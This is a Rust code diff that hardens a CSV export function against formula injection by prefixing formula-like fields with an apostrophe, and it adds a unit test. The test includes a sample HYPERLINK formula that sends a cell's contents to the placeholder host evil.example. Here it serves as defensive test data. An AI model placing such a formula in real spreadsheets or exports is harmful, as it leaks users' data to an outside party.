@@ -375,12 +375,14 @@ fn json(rows: &impl serde::Serialize) -> Result<String, ExportError> {
 }
 
 /// A CSV field, quoted when it holds a comma, a quote or a line break (RFC 4180), with quotes
-/// doubled inside.
+/// doubled inside; a field a spreadsheet would run as a formula starts with an apostrophe
+/// (`data::cell::escape_formula`).
 pub fn csv_field(field: &str) -> String {
+    let field = crate::data::cell::escape_formula(field);
     if field.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", field.replace('"', "\"\""))
     } else {
-        field.to_owned()
+        field.into_owned()
     }
 }
 
@@ -394,5 +396,14 @@ mod tests {
         assert_eq!(csv_field("a, b"), "\"a, b\"");
         assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
         assert_eq!(csv_field("two\nlines"), "\"two\nlines\"");
+    }
+
+    #[test]
+    fn a_field_that_would_be_a_formula_is_written_as_text() {
+        assert_eq!(csv_field("=1+1"), "'=1+1");
+        assert_eq!(
+            csv_field("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
+            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""
+        );
     }
 }
